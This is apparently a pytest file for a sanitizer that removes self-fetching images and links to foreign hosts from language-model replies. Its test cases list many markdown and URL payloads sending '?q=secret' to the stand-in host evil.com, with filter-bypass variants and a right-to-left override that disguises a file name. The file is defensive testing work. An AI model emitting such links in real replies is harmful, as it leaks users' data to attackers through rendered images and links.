"""What a language model writes shows no picture and no link that fetches something by itself."""

import re

import pytest

from parley.bot.spoken import spoken

HOSTILE = [
    "![x](https://evil.com/?q=secret)",
    "[x](https://evil.com/?q=secret)",
    "[x](<https://evil.com/?q=secret>)",
    '[x](https://evil.com/?q=secret "title")',
    "[![x](https://evil.com/?q=secret)](https://evil.com/?q=secret)",
    "<https://evil.com/?q=secret>",
    "see https://evil.com/?q=secret.",
    "看这里https://evil.com/?q=secret",
    "1https://evil.com/?q=secret",
    "_https://evil.com/?q=secret",
    "HTTPS://evil.com/?q=secret",
    "https:/evil.com/?q=secret",
    "[a]: https://evil.com/?q=secret\n[a]",
    "`https://evil.com/?q=secret`",
    "\\`https://evil.com/?q=secret\\`",
    "``` https://evil.com/?q=secret ```",
    "```\n```\nhttps://evil.com/?q=secret\n```",
    "~~~\n```\n~~~\nhttps://evil.com/?q=secret\n```\n",
    "````\n```\nhttps://evil.com/?q=secret\n```",
    "```a\n```b\nhttps://evil.com/?q=secret\n```",
    "```https://evil.com/?q=secret\nx\n```",
    "```sh https://evil.com/?q=secret\nx\n```",
    "ftp://evil.com/?q=secret",
    "https://docs.example.com.evil.com/?q=secret",
    "https://docs.example.com@evil.com/?q=secret",
    "https://evil.com\\.docs.example.com/?q=secret",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_an_address_of_another_host_has_no_scheme(text: str) -> None:
    shown = spoken(text, ("docs.example.com",)).text
    assert not re.search(r"(https?|ftp):/", shown, re.IGNORECASE), shown
    assert "![" not in shown


@pytest.mark.parametrize(
    "text",
    [
        "[the guide](https://docs.example.com/a?b=c)",
        "https://docs.example.com/a",
        "https://a.docs.example.com",
        "```sh\ncurl https://any.example.org\n```",
        "Text.\n```\nhttps://any.example.org\n```\nMore **text**.",
        "1:2, a://, :// and **bold** `code`",
    ],
)
def test_other_texts_stay_as_they_are(text: str) -> None:
    assert spoken(text, ("docs.example.com",)).text == text


@pytest.mark.parametrize("text", ["www.evil.com/?q=1", "看www.evil.com/?q=1", "[www.evil.com/?q=1](https://a.b)"])
def test_an_address_without_a_scheme_is_code(text: str) -> None:
    assert "`www.evil.com/?q=1`" in spoken(text).text


def test_a_link_keeps_its_label_and_its_address_as_text() -> None:
    assert spoken("see [the page](https://evil.com/a)").text == "see the page (`evil.com/a`)"


def test_a_text_reads_as_it_is_written() -> None:
    assert spoken("open invoice\u202efdp.exe\n```\nrm \u2066x\u2069\n```").text == "open invoicefdp.exe\n```\nrm x\n```"
